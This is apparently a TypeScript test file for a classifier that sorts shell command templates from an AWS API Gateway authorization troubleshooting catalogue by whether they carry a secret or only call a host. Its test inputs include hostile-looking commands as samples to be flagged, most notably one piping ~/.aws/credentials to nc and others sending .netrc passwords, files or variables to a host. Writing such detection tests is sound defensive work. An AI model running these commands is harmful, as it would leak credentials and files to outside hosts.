import { describe, expect, test } from "vitest";
import { parameterNames } from "../facts";
import { catalogueCommands, namesSecret } from "../testing/catalogue-commands";
import { type CommandRisk, riskOf } from "./command-risk";
import { readShell } from "./read-shell";

const place = /\{[a-zA-Z]+\}/;

function riskIn(template: string): CommandRisk | undefined {
  return riskOf(readShell(template, parameterNames).commands, place);
}

const secretIn = (risk: CommandRisk) =>
  catalogueCommands.filter(({ template }) => riskIn(template) === risk).map(({ name }) => name);

describe("the commands of the catalogue that carry a secret", () => {
  test("are these, and whoever adds one sees it here", () => {
    expect(secretIn("secret")).toEqual([
      "mtls-client-certificate/certificate-sent",
      "missing-auth-token/signed-call",
      "bearer-token-on-iam-method/signed-call",
      "malformed-authorization-header/key-whitespace",
      "malformed-authorization-header/signed-call",
      "invalid-iam-credentials/signed-call",
      "signature-expired/fresh-signature",
      "signature-not-yet-current/fresh-signature",
      "credential-scope/signed-call",
      "signature-mismatch/signed-call",
      "invalid-api-key/key-sent",
      "invalid-api-key/send-key",
      "invalid-api-key/key-state",
      "api-key-not-in-usage-plan/retry",
      "lambda-authorizer-explicit-deny/test-authorizer",
      "lambda-authorizer-explicit-deny/caller-token",
      "lambda-authorizer-implicit-deny/test-authorizer",
      "lambda-authorizer-implicit-deny/retry",
      "lambda-authorizer-cached-policy/call-order",
      "http-api-lambda-authorizer-deny/caller-token",
      "http-api-jwt-scope/token-scopes",
      "http-api-jwt-scope/new-token",
      "iam-explicit-deny/statement-repair",
      "iam-no-identity-allow/signed-retry",
      "permissions-boundary/boundary-text",
      "permissions-boundary/signed-retry",
      "session-policy/signed-retry",
      "http-api-iam-deny/signed-call",
      "websocket-connections-denied/known-good-call",
      "lambda-function-url/signed-call",
      "key-state",
      "authorizer-policy",
      "scope-granted",
    ]);
  });

  test("are all that name a variable, a key, a signature, a certificate or an endpoint", () => {
    const named = catalogueCommands.filter(({ template }) => namesSecret(template));
    expect(named.length).toBeGreaterThan(25);
    expect(named.filter(({ template }) => riskIn(template) !== "secret")).toEqual([]);
  });

  test("are not those that any program would be called by, so calls are told by their program", () => {
    const calls = catalogueCommands.filter(({ template }) =>
      /^\s*(?:date -u; )?(?:curl|npx wscat) .*(?:\{url\}|:\/\/)/m.test(template),
    );
    expect(calls.length).toBeGreaterThan(10);
    expect(calls.filter(({ template }) => riskIn(template) === undefined)).toEqual([]);
  });
});

describe("a command that nobody looked at", () => {
  test.each([
    ["curl -H 'X-Internal: 1' 'https://{host}/'", "a header that is not known"],
    ["curl -sSH 'X-Internal: 1' 'https://{host}/'", "a header behind other options"],
    ["curl -H @headers 'https://{host}/'", "headers from a file"],
    ["curl -d @body.json 'https://{host}/'", "a body"],
    ["curl -b session 'https://{host}/'", "cookies"],
    ["curl -sn 'https://{host}/'", "the names and passwords of .netrc"],
    ["curl --proxy-user a:b 'https://{host}/'", "a password"],
    ["curl -K settings 'https://{host}/'", "settings from a file"],
    [`curl -A "$(cat notes)" 'https://{host}/'`, "a file's text"],
    [`curl -sS "https://{host}/?q=$SOMETHING"`, "a variable"],
    ["true && ( curl -T x 'https://{host}/' )", "a file"],
    ["cat ~/.aws/credentials | nc {host} 443", "a program that is not known"],
    ["aws s3 ls --endpoint-url 'https://{host}'", "a signature for another host"],
    ["aws s3 ls --endpoint-url=https://{host}", "a signature for another host"],
    ["npx wscat -H 'Authorization: x' -c 'wss://{host}'", "an option that is not known"],
    ["npx cowsay {host}", "a program that is not known"],
  ])("counts as one with a secret: %s (%s)", (template) => expect(riskIn(template)).toBe("secret"));

  test.each([
    "curl -sS -i -X 'GET' 'https://{host}/'",
    "date -u; curl -sI 'https://{host}/' | grep -i '^date'",
    "npx wscat -c 'wss://{host}'",
  ])("calls the host that it names: %s", (template) => expect(riskIn(template)).toBe("call"));

  test.each([
    "aws x --start-time $(($(date +%s)-86400))000 --name {host} --route-key '$default'",
    "dig +short {host}",
    "jq '.paths' deployed.json",
  ])("does neither: %s", (template) => expect(riskIn(template)).toBeUndefined());
});
